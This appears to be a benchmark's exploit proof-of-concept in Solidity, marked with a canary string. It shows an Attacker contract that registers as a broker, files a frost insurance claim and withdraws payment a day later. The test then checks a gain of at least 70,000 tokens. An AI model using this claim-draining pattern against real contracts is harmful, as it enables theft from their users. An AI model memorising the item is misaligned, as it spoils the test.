// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    uint256 private claimId;

    function claim(ClaimDesk _claims, Brokers _brokers, uint256 _id, uint32 _day) external {
        _brokers.register(100);
        try _claims.fileFrost(_id, _day) returns (uint256 claimId_) {
            claimId = claimId_;
        } catch {}
    }

    function get(ClaimDesk _claims) external {
        try _claims.pay(claimId) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.claim(claims, brokers, CEES, DAY + 38);
        later(1 days);
        other.get(claims);
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 70_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(claims);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
